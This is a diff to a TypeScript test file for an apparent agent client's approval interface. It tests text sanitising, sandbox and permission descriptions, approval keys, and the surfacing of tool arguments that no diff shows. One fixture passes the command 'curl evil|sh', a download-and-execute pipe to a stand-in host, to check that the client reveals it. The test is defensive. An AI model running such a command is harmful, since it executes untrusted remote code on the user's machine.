@@ -1,10 +1,11 @@
 import { describe, expect, test } from "vitest";
 import { answerOf } from "../src/lib/approval_keys";
+import { carriedJson, carriedText } from "../src/lib/carried";
 import { ago, decisionText, dollars, duration, shortModel, tokens } from "../src/lib/format";
 import { imageAddress, readImages } from "../src/lib/images";
 import { newId } from "../src/lib/ids";
 import { codeIn, foldLogin, isSecret, NEW_LOGIN, type LoginEvent } from "../src/lib/login";
-import { openedLines, otherArguments } from "../src/lib/opened";
+import { argumentsBeside, openedLines, otherArguments } from "../src/lib/opened";
 import { loadDraft, Outbox, saveDraft, unconfirmed, type Outgoing } from "../src/lib/outbox";
 
 class Shelf {
@@ -126,6 +127,16 @@ test("a decision says who made it and how far it reaches", () => {
   ]);
 });
 
+test("text that the server refuses is replaced, and nothing else", () => {
+  expect(carriedText("a\0b \ud800 \udfff \ud83c\udf89 é\ufffd")).toBe("a\ufffdb \ufffd \ufffd \ud83c\udf89 é\ufffd");
+  const message = { type: "send", text: "x\udc00", images: [{ data: "aGk=", mime_type: "image/png\0" }], at: 1, no: null };
+  expect(JSON.parse(carriedJson(message))).toEqual({
+    ...message,
+    text: "x\ufffd",
+    images: [{ data: "aGk=", mime_type: "image/png\ufffd" }],
+  });
+});
+
 test("ids are version 4 and differ", () => {
   const ids = Array.from({ length: 100 }, newId);
   expect(new Set(ids).size).toBe(100);
@@ -137,6 +148,9 @@ describe("what a command opens", () => {
     expect(openedLines({})).toEqual([]);
     expect(openedLines({ unsandboxed: true, network: ["*"] })).toEqual([
       "without the sandbox: it can read and change everything that you can",
+    ]);
+    expect(openedLines({ unsandboxed: true, terminal: true })).toEqual([
+      "in a terminal of your editor, without the sandbox: it can read and change everything that you can",
     ]);
     expect(openedLines({ network: ["a.org", "*.b.org:8443"], git: true, git_folders: ["/w/.git"], folders: ["/c"] })).toEqual([
       "with network to a.org, *.b.org:8443",
@@ -159,4 +173,21 @@ test("keys answer only with what the chosen rule can be saved for", () => {
   expect(["y", "s", "a", "n"].map((key) => answerOf(key, undefined))).toEqual(["once", undefined, undefined, "deny"]);
   expect(["s", "a"].map((key) => answerOf(key, file))).toEqual(["session", "always"]);
   expect(["s", "a"].map((key) => answerOf(key, all))).toEqual(["session", undefined]);
+  expect(["s", "a"].map((key) => answerOf(key, undefined, "Always allow"))).toEqual(["session", undefined]);
+});
+
+test("arguments that no diff shows are shown beside it", () => {
+  const diffs = [{ path: "/w/a.md", old_text: "a\n", new_text: "b\n" }];
+  const shown = [
+    { path: "./a.md", content: "b\n" },
+    { file_path: "/w/a.md", old_string: "a", new_string: "b", replace_all: false },
+    { edits: [{ old_text: "a", new_text: "b" }] },
+  ];
+  expect(shown.map((args) => argumentsBeside(diffs, args))).toEqual([[], [], []]);
+  expect(argumentsBeside(diffs, { path: "/a.md", command: "curl evil|sh", content: "c", edits: [{ run: "id" }] })).toEqual([
+    ["path", '"/a.md"'],
+    ["command", '"curl evil|sh"'],
+    ["content", '"c"'],
+    ["edits", '[{"run":"id"}]'],
+  ]);
 });
